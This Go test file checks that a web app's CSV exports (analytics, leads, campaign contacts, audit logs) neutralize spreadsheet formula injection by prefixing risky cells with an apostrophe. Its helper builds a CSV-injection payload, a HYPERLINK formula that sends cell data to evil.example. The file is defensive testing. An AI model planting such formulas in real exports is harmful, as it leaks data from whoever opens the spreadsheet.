package app_test

import (
	"encoding/csv"
	"slices"
	"strings"
	"testing"

	"gopkg.in/yaml.v3"

	"github.com/agentline/agentline"
	"github.com/agentline/agentline/internal/app"
	"github.com/agentline/agentline/internal/app/apptest"
	"github.com/agentline/agentline/internal/store"
)

// formulaStarts are the leading characters of a cell that a spreadsheet
// runs as a formula (OWASP's CSV injection list).
var formulaStarts = []string{"=", "+", "-", "@", "\t", "\r"}

// formula is a visitor's value that begins with start.
func formula(start string) string {
	return start + `HYPERLINK("http://evil.example/?"&A2,"Click")`
}

// Every CSV export, found in the route table, answers a visitor's value
// that begins with any of OWASP's formula characters as text: no cell
// begins with one. Each export has a case below that puts such values
// into its visitor-controlled fields; a CSV route without one fails.
func TestCSVExportsNeutralizeFormulas(t *testing.T) {
	t.Parallel()
	w := startWidgetSite(t, store.SQLite, map[string]string{"AGENTLINE_FORM_SUBMITS_PER_MINUTE": "100"})
	s, tok := w.s, w.token
	var form agentline.Channel
	s.Must(t, 201, "POST", "/api/projects/"+itoa(w.project.ID)+"/channels", tok, map[string]any{"type": "form", "name": "Contact",
		"settings": map[string]any{"form": map[string]any{"fields": []map[string]any{
			{"name": "name", "label": "Name", "type": "text", "required": true},
			{"name": "message", "label": "Message", "type": "textarea"},
		}}}}, &form)
	for _, c := range formulaStarts {
		// A widget session the visitor ends with a reason of their own.
		id := w.session(t)
		if r := w.do(t, "POST", "/widget/v1/analytics", map[string]any{"session_id": id, "events": []any{
			map[string]any{"type": "session_ended", "data": map[string]string{"reason": formula(c)}}}}); r.Status != 202 {
			t.Fatalf("session_ended: %s", r)
		}
		s.Must(t, 201, "POST", "/api/channels/form/submit/"+itoa(form.ID), "", map[string]string{"name": formula(c), "message": formula(c)}, nil)
	}
	// A campaign's contacts, whose variables may come from a form's
	// visitors (speed to lead) or an uploaded list.
	var campaign agentline.Campaign
	s.Must(t, 201, "POST", "/api/projects/"+itoa(w.project.ID)+"/campaigns", tok, map[string]any{"name": "Renewals", "agent_id": w.agent.ID}, &campaign)
	var contacts []map[string]any
	for i, c := range formulaStarts {
		contacts = append(contacts, map[string]any{"phone_number": "+1415555011" + itoa(int64(i)), "timezone": "America/New_York",
			"variables": map[string]string{"name": formula(c)}})
	}
	s.Must(t, 200, "POST", "/api/campaigns/"+itoa(campaign.ID)+"/contacts", tok, contacts, nil)
	// The audit log: a failed sign-in keeps the email tried, whatever it
	// is (the instance's log); a project's entries name a do-not-call
	// number (+) and carry the request id a client sent (-).
	for _, c := range formulaStarts {
		if r := s.Do(t, "POST", "/api/auth/login", "", map[string]string{"email": formula(c), "password": "wrong"}); r.Status != 401 && r.Status != 429 {
			t.Fatalf("sign-in with a formula for an email: %s", r)
		}
	}
	s.Must(t, 201, "POST", "/api/projects/"+itoa(w.project.ID)+"/dnc", tok, map[string]string{"phone_number": "+14155550999"}, nil)
	req := s.Request(t, "PATCH", "/api/projects/"+itoa(w.project.ID), tok, map[string]string{"name": "Renamed"})
	req.Header.Set("X-Request-Id", "-request-1")
	if r := s.Send(t, req); r.Status != 200 {
		t.Fatalf("rename: %s", r)
	}

	// want lists, per CSV route, the cells the visitor's values must come
	// out as: each value as the route's data keeps it, behind a '.
	want := map[string][]string{
		"GET /api/projects/{project_id}/analytics.csv": neutralized(func(v string) string { return v }),
		// Form answers are stored trimmed: a leading tab or CR goes.
		"GET /api/projects/{project_id}/leads.csv":      neutralized(strings.TrimSpace),
		"GET /api/campaigns/{campaign_id}/contacts.csv": neutralized(func(v string) string { return v }),
		// Emails are kept trimmed and in lower case.
		"GET /api/admin/audit-log.csv":                 neutralized(func(v string) string { return strings.ToLower(strings.TrimSpace(v)) }),
		"GET /api/projects/{project_id}/audit-log.csv": {"'+14155550999", "'-request-1"},
	}
	ids := apptest.Fixture{IDs: map[string]int64{"project_id": w.project.ID, "campaign_id": campaign.ID}}
	routes := csvRoutes(t, s.App)
	if len(routes) < len(want) {
		t.Fatalf("found the CSV routes %q, fewer than the cases here", routes)
	}
	for _, route := range routes {
		t.Run(route, func(t *testing.T) {
			cells, ok := want[route]
			if !ok {
				t.Fatalf("%s answers CSV but has no case in this test: add one that puts each of %q at the start of its visitor-controlled fields", route, formulaStarts)
			}
			method, pattern, _ := strings.Cut(route, " ")
			who := tok
			if strings.HasPrefix(pattern, "/api/admin/") {
				who = s.Admin(t)
			}
			r := s.Must(t, 200, method, ids.Path(t, pattern), who, nil, nil)
			if ct := r.Header.Get("Content-Type"); !strings.HasPrefix(ct, "text/csv") {
				t.Errorf("Content-Type %q", ct)
			}
			rows, err := csv.NewReader(strings.NewReader(string(r.Body))).ReadAll()
			if err != nil {
				t.Fatalf("not CSV (%v):\n%s", err, r.Body)
			}
			var all []string
			for _, row := range rows {
				all = append(all, row...)
			}
			for _, cell := range all {
				if formulaStart(cell) {
					t.Errorf("cell %q begins with a formula character", cell)
				}
			}
			var missing []string
			for _, cell := range cells {
				if !slices.Contains(all, cell) {
					missing = append(missing, cell)
				}
			}
			if len(missing) > 0 {
				t.Errorf("no cells %q: the visitor's values did not reach the export, or not as text:\n%q", missing, r.Body)
			}
		})
	}
}

// formulaStart tells whether cell begins with one of formulaStarts.
func formulaStart(cell string) bool {
	return slices.ContainsFunc(formulaStarts, func(c string) bool { return strings.HasPrefix(cell, c) })
}

// neutralized is how each formula comes out of an export whose data keeps
// a value as keep returns it: behind a ' when it still begins with a
// formula character.
func neutralized(keep func(string) string) []string {
	var out []string
	for _, c := range formulaStarts {
		v := keep(formula(c))
		if formulaStart(v) {
			v = "'" + v
		}
		out = append(out, v)
	}
	return out
}

// csvRoutes lists, as "METHOD PATTERN", every route of a whose path ends
// in .csv or whose documented answer (docs/openapi.yaml, which
// TestOpenAPIDescribesEveryRoute keeps in step with the routes) is
// text/csv.
func csvRoutes(t *testing.T, a *app.App) []string {
	t.Helper()
	var doc struct {
		Paths map[string]map[string]any `yaml:"paths"`
	}
	if err := yaml.Unmarshal(agentline.OpenAPI(), &doc); err != nil {
		t.Fatalf("docs/openapi.yaml: %v", err)
	}
	var out []string
	for _, r := range a.RouteTable() {
		op, _ := doc.Paths[r.Pattern][strings.ToLower(r.Method)].(map[string]any)
		responses, _ := op["responses"].(map[string]any)
		csvAnswer := strings.HasSuffix(r.Pattern, ".csv")
		for _, res := range responses {
			res, _ := res.(map[string]any)
			content, _ := res["content"].(map[string]any)
			_, ok := content["text/csv"]
			csvAnswer = csvAnswer || ok
		}
		if csvAnswer {
			out = append(out, r.Method+" "+r.Pattern)
		}
	}
	return out
}
